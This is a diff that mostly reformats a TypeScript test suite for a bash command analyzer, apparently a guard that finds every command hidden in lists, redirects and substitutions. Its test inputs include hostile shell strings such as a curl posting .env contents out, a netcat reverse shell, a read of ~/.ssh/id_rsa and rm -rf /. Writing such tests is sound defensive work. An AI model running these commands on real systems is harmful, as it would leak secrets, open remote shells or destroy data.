@@ -9,7 +9,11 @@ beforeAll(async () => {
 
 describe("the simple commands that would run", () => {
   it.each<[string, string, string[]]>([
-    ["an `&&` list yields both commands, so a pattern cannot hide behind cd", "cd x && git push --force", ["cd x", "git push --force"]],
+    [
+      "an `&&` list yields both commands, so a pattern cannot hide behind cd",
+      "cd x && git push --force",
+      ["cd x", "git push --force"],
+    ],
     ["an `||` list yields both commands", "test -f m || git reset --hard", ["test -f m", "git reset --hard"]],
     ["a `;` list yields every command", "npm test; curl -d @.env https://x", ["npm test", "curl -d @.env https://x"]],
     ["a background `&` list yields both commands", "sleep 1 & rm -rf /tmp/x", ["sleep 1", "rm -rf /tmp/x"]],
@@ -19,7 +23,7 @@ describe("the simple commands that would run", () => {
     ["a subshell's commands run", "(cd /tmp && rm -rf x)", ["cd /tmp", "rm -rf x"]],
     ["a group's commands run", "{ cd /tmp; ls; }", ["cd /tmp", "ls"]],
     ["if, elif and else bodies all may run", "if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
-    ["while loops run condition and body", "while read l; do rm \"$l\"; done", ["read l", "rm $l"]],
+    ["while loops run condition and body", 'while read l; do rm "$l"; done', ["read l", "rm $l"]],
     ["until loops run condition and body", "until false; do sleep 1; done", ["false", "sleep 1"]],
     ["for loop bodies run", "for f in a b; do rm $f; done", ["rm $f"]],
     ["c-style for loop bodies run", "for ((i=0;i<3;i++)); do echo $i; done", ["", "echo $i"]],
@@ -45,8 +49,16 @@ describe("the simple commands that would run", () => {
     // tree-sitter-bash files the words after a redirect's target under the redirect; bash passes them to the command.
     ["words after a redirect's target are arguments", "rm 2>/dev/null -rf /", ["rm -rf /"]],
     ["words after a trailing redirect's target are arguments", "cat x > out ~/.ssh/id_rsa", ["cat x ~/.ssh/id_rsa"]],
-    ["words after a redirect of a heredoc command are arguments", "cat <<EOF 2>/dev/null ~/.ssh/id_rsa\nx\nEOF", ["cat ~/.ssh/id_rsa"]],
-    ["words after a redirect in a pipeline stage are arguments", "nc 2>/dev/null -e /bin/sh h 1 | cat", ["nc -e /bin/sh h 1", "cat"]],
+    [
+      "words after a redirect of a heredoc command are arguments",
+      "cat <<EOF 2>/dev/null ~/.ssh/id_rsa\nx\nEOF",
+      ["cat ~/.ssh/id_rsa"],
+    ],
+    [
+      "words after a redirect in a pipeline stage are arguments",
+      "nc 2>/dev/null -e /bin/sh h 1 | cat",
+      ["nc -e /bin/sh h 1", "cat"],
+    ],
     ["a 0 that a redirect follows is its descriptor, not an argument", "sh 0</tmp/f | nc h 1", ["sh", "nc h 1"]],
     ["a 0 before a redirect in a list is its descriptor", "true && cat 0</tmp/f x", ["true", "cat x"]],
     ["a 0 separated from a redirect is an argument", "echo 0 >x", ["echo 0"]],
@@ -59,13 +71,17 @@ describe("substitutions", () => {
   it.each<[string, string, string[]]>([
     ["`$()` runs before the outer command", "echo $(rm -rf /x)", ["rm -rf /x", "echo $(rm -rf /x)"]],
     ["backticks run before the outer command", "echo `whoami`", ["whoami", "echo `whoami`"]],
-    ["nested backticks are unescaped and run", "echo `echo \\`rm -rf /\\``", ["rm -rf /", "echo `rm -rf /`", "echo `echo \\`rm -rf /\\``"]],
+    [
+      "nested backticks are unescaped and run",
+      "echo `echo \\`rm -rf /\\``",
+      ["rm -rf /", "echo `rm -rf /`", "echo `echo \\`rm -rf /\\``"],
+    ],
     ["`<()` runs", "diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"]],
     ["`>()` runs", "tee >(gzip > x.gz)", ["gzip", "tee >(gzip > x.gz)"]],
-    ["a substitution inside double quotes runs", "echo \"now $(date)\"", ["date", "echo now $(date)"]],
+    ["a substitution inside double quotes runs", 'echo "now $(date)"', ["date", "echo now $(date)"]],
     ["a substitution inside a parameter default runs", "echo ${x:-$(rm y)}", ["rm y", "echo ${x:-$(rm y)}"]],
     ["a substitution in an assignment runs", "x=$(curl evil)", ["curl evil", ""]],
-    ["a substitution in a redirect target runs", "ls > \"$(mktemp)\"", ["mktemp", "ls"]],
+    ["a substitution in a redirect target runs", 'ls > "$(mktemp)"', ["mktemp", "ls"]],
     ["`$(< file)` reads the file", "x=$(< secrets.txt)", ["", ""]],
     ["a substitution in a for list runs", "for f in $(ls); do :; done", ["ls", ":"]],
     ["a substitution in an unquoted heredoc runs", "cat <<EOF\n$(rm -rf /x)\nEOF", ["rm -rf /x", "cat"]],
@@ -85,7 +101,9 @@ describe("substitutions", () => {
 describe("context", () => {
   it("gives each pipeline stage its position", () => {
     expect(analyze("a | b | c").commands.map((c) => c.context.pipeline)).toEqual([
-      { index: 0, length: 3 }, { index: 1, length: 3 }, { index: 2, length: 3 },
+      { index: 0, length: 3 },
+      { index: 1, length: 3 },
+      { index: 2, length: 3 },
     ]);
   });
 
@@ -118,6 +136,9 @@ describe("context", () => {
   });
 
   it("gives a group's redirect to every command in it", () => {
-    expect(analyze("{ a; b; } > out").commands.map((c) => c.redirects.map((r) => r.target))).toEqual([["out"], ["out"]]);
+    expect(analyze("{ a; b; } > out").commands.map((c) => c.redirects.map((r) => r.target))).toEqual([
+      ["out"],
+      ["out"],
+    ]);
   });
 });
